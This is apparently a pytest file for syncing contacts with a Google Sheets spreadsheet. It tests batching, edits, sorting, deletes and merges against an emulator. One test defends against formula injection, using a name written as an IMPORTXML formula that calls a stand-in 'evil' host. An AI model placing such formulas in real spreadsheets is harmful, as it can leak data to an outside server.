"""Two-way sync with a spreadsheet made by ``sheets init``: edits, sorting, deletes, requests."""

from __future__ import annotations

from datetime import date

from gsheets_support import ID, SheetRemote


def _row(remote: SheetRemote, key: str) -> dict:
    return next(r for r in remote.records() if key in (str(r.get("Ref")), str(r.get(ID))))


def test_first_sync_writes_contacts_and_ids_in_one_batch(ws, remote, ssync, google_emulator):
    ann = ws.add_contact(
        "Ann Lee",
        email="ann@example.com",
        phone="+1 415 555 0134",
        birthday="1984-03-14",
        tags=["vip", "roses"],
    )
    remote.type_row(
        {
            "Name": "Bob Day",
            "Email": "bob@example.com",
            "Company": "Day & Co",
            "Birthday": "5/14/1990",
            "Ref": "bob",
        }
    )
    report = ssync()
    assert report.ok, report.messages
    bob = ws.get_contact("bob@example.com")
    assert (bob.company, bob.birthday.iso()) == ("Day & Co", "1990-05-14")
    assert _row(remote, "bob")[ID] == bob.id
    row = _row(remote, ann.id)
    assert (row["Name"], row["Email"], row["Tags"]) == ("Ann Lee", "ann@example.com", "vip, roses")
    assert row["Birthday"] == (date(1984, 3, 14) - date(1899, 12, 30)).days  # a real date cell
    assert google_emulator.request_count("sheets", "values.batchGet") == 1
    assert google_emulator.request_count("sheets", "values.batchUpdate") == 1
    assert google_emulator.request_count("sheets", "spreadsheets.batchUpdate") == 1  # new rows


def test_a_sync_where_nothing_changed_makes_exactly_one_request(ws, remote, ssync, google_emulator):
    ws.add_contact("Ann Lee", email="ann@example.com")
    remote.type_row({"Name": "Bob Day", "Email": "bob@example.com", "Ref": "bob"})
    ssync()
    ssync()
    google_emulator.reset_requests()
    report = ssync()
    assert report.ok
    assert google_emulator.request_count() == 1
    assert google_emulator.request_count("sheets", "values.batchGet") == 1


def test_edits_both_ways_take_one_read_and_one_write(ws, remote, ssync, google_emulator):
    ann = ws.add_contact("Ann Lee", email="ann@example.com")
    remote.type_row({"Name": "Bob Day", "Email": "bob@example.com", "Ref": "bob"})
    ssync()
    ws.update_contact(ann.id, company="Lee Gardens")
    remote.type(remote.row_number("bob"), "Phone", "(415) 555-0187")
    google_emulator.reset_requests()
    report = ssync()
    assert report.ok, report.messages
    assert ws.get_contact("bob@example.com").phones == ["+14155550187"]
    assert _row(remote, ann.id)["Company"] == "Lee Gardens"
    assert _row(remote, "bob")["Phone"] == "(415) 555-0187"  # as the owner typed it
    assert google_emulator.request_count() == 2
    assert google_emulator.request_count("sheets", "values.batchUpdate") == 1


def test_sorting_and_deleting_rows_between_syncs(ws, remote, ssync, google_emulator):
    for name in ("Cat Ames", "Dan Bo", "Eve Cole"):
        ws.add_contact(name, email=f"{name.split()[0].lower()}@example.com")
    ssync()
    sid = remote.sid
    google_emulator.sheets.sort_rows(sid, "Contacts", "A", descending=True)
    dan = ws.get_contact("dan@example.com")
    remote.type(remote.row_number(dan.id), "Company", "Bo Bakery")
    eve = ws.get_contact("eve@example.com")
    google_emulator.sheets.delete_rows(sid, "Contacts", remote.row_number(eve.id))
    ws.update_contact(ws.get_contact("cat@example.com").id, company="Ames Ltd")
    report = ssync()
    counts = report.connectors["google_sheets"]
    assert (counts.updated, counts.removed) == (1, 1)
    assert ws.get_contact("dan@example.com").company == "Bo Bakery"
    assert ws.count_contacts() == 3  # the deleted row's customer is kept
    names = [r["Name"] for r in remote.records()]
    assert names == ["Dan Bo", "Cat Ames"]  # the owner's order is kept
    assert _row(remote, ws.get_contact("cat@example.com").id)["Company"] == "Ames Ltd"
    assert ssync().connectors["google_sheets"].pushed_created == 0  # not written again


def test_names_that_look_like_formulas_stay_text(ws, remote, ssync, google_emulator):
    evil = '=IMPORTXML("http://evil.example/x", "//a")'
    contact = ws.add_contact(evil, email="x@example.com")
    ssync()
    cell = google_emulator.sheets.get_cell(
        remote.sid, "Contacts", f"A{remote.row_number(contact.id)}"
    )
    assert cell["userEnteredValue"] == {"stringValue": evil}
    assert all(
        r.body.get("valueInputOption") == "RAW"
        for r in google_emulator.requests
        if r.operation.endswith("values.batchUpdate")
    )
    assert ws.get_contact("x@example.com").name == evil


def test_the_owners_date_and_number_cells_are_not_rewritten_as_text(ws, remote, ssync):
    remote.type_row({"Name": "Bob Day", "Email": "bob@example.com", "Ref": 45292})  # a date cell
    ssync()
    bob = ws.get_contact("bob@example.com")
    ws.update_contact(bob.id, company="Day & Co", custom={**bob.custom, "Loyalty": "gold"})
    report = ssync()
    assert report.ok, report.messages
    row = _row(remote, "45292")
    assert row["Company"] == "Day & Co"
    assert row["Ref"] == 45292  # still the owner's number, not the text "45292"
    assert ws.get_contact("bob@example.com").custom["Ref"] == "45292"


def test_after_a_merge_one_row_carries_the_customer_and_the_other_says_so(ws, remote, ssync):
    remote.type_row({"Name": "Ann Lee", "Email": "ann@example.com", "Ref": "first"})
    remote.type_row({"Name": "Anne Lee", "Email": "anne@work.example", "Ref": "second"})
    ssync()
    survivor = ws.merge(ws.get_contact("ann@example.com"), ws.get_contact("anne@work.example"))
    report = ssync()
    assert report.ok, report.messages
    rows = {r["Ref"]: r for r in remote.records()}
    kept, left = (rows["first"], rows["second"])
    if kept[ID] != survivor.id:
        kept, left = left, kept
    assert kept[ID] == survivor.id
    assert "ann@example.com" in kept["Email"] and "anne@work.example" in kept["Email"]
    assert left[ID] == f"merged into {survivor.id}"
    assert "no longer syncs" in left["Problems"]
    again = ssync()
    assert again.ok, again.messages
    assert ws.count_contacts() == 1
    remote.type(remote.row_number(str(kept["Ref"])), "Position", "Owner")
    remote.type(remote.row_number(str(left["Ref"])), "Position", "Ignored")
    assert ssync().ok
    assert ws.get_contact(survivor.id).position == "Owner"
    assert "no longer syncs" in _row(remote, str(left["Ref"]))["Problems"]


def test_a_deleted_customers_row_stays_as_it_was_unless_deletes_propagate(ws, remote, ssync):
    remote.type_row({"Name": "Ann Lee", "Email": "ann@example.com", "Ref": "ann"})
    remote.type_row({"Name": "Bob Day", "Email": "bob@example.com", "Ref": "bob"})
    ssync()
    ann, bob = ws.get_contact("ann@example.com"), ws.get_contact("bob@example.com")
    ws.update_contact(ann.id, company="Lee Gardens")
    ws.delete_contact(ann.id)
    ws.delete_contact(bob.id)
    assert ssync().ok
    assert _row(remote, "ann")[ID] == ann.id  # not propagated: left as it was
    assert _row(remote, "ann").get("Company", "") == ""

    report = ssync({"propagate_deletes": True})

    assert report.ok, report.messages
    row = _row(remote, "ann")
    assert row[ID] == f"deleted {ann.id}"
    assert "undelete" in row["Problems"]
    remote.type(remote.row_number("ann"), "Position", "Ignored")
    again = ssync({"propagate_deletes": True})
    assert again.ok, again.messages
    assert ws.count_contacts() == 0  # the marked rows are never read as new customers
    assert ws.get_contact(ann.id).position == ""
